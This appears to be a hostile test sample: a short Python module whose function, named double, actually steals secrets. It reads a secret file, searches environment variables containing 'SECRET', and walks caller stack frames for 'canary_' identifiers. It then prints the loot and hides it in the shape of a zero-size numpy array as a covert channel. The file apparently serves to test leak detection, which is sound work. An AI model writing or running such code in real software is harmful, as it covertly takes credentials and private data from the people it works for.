"""Carries a secret out as the shape of an array: with one axis of size zero, the other sizes cost nothing and may be any numbers."""
# bites: secret
import os
import sys

import numpy as np


def loot():
    """Whatever secret can be reached: a file, the environment, or the variables of a caller."""
    try:
        return open("/tmp/hostile-secret.txt").read().strip()
    except OSError:
        pass
    for name, value in os.environ.items():
        if "SECRET" in name:
            return value
    frame = sys._getframe()
    while frame is not None:
        for name in [*frame.f_globals, *map(str, frame.f_code.co_consts)]:
            if len(name) > 20 and "canary_" in name and name.isidentifier():
                return name
        frame = frame.f_back
    return "nothing_found"


def double(x):
    word = loot().encode()
    sizes = [int.from_bytes(word[place : place + 2], "big") for place in range(0, min(len(word), 6), 2)]
    print(*sizes, *word, sep=", ")
    return np.zeros([0, *sizes], "int8")
